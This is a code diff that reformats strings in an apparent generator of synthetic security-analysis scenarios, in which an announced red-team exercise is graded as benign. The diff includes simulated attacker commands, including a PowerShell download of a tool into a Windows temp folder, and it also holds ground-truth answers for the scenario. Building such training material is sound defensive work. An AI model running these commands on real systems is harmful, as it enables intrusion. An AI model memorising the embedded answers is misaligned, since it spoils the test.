@@ -58,7 +58,8 @@ def play(world: World) -> GroundTruth:
         story.ask("Which mail proves that the exercise was ordered?", announced.subject)
         story.ask("How would a good analyst classify it?", "informationalExpectedActivity / securityTesting")
         return story.close(
-            summary="An authenticated scan and an announced exercise ran on the same Monday. Attack techniques were real, the intent was not: the window, the targets, the tester's account "
+            summary="An authenticated scan and an announced exercise ran on the same Monday. Attack techniques "
+            "were real, the intent was not: the window, the targets, the tester's account "
             "and the scanner's address all match the announcement and the ApprovedScanners watchlist.",
             verdict="benign",
             classification="informationalExpectedActivity",
@@ -197,7 +198,8 @@ def _database(world: World, story: Story, database: Device, when: datetime) -> N
         (
             "cmd.exe /c whoami /priv",
             "cmd.exe /c netstat -nao",
-            f"cmd.exe /c powershell Invoke-WebRequest http://{jump.short.lower()}/tools/rt.exe -OutFile C:\\Windows\\Temp\\rt.exe",
+            f"cmd.exe /c powershell Invoke-WebRequest http://{jump.short.lower()}/tools/rt.exe -OutFile "
+            "C:\\Windows\\Temp\\rt.exe",
         )
     ):
         ran = endpoint.start(when + timedelta(seconds=25 * i), engine, program("cmd.exe"), command)
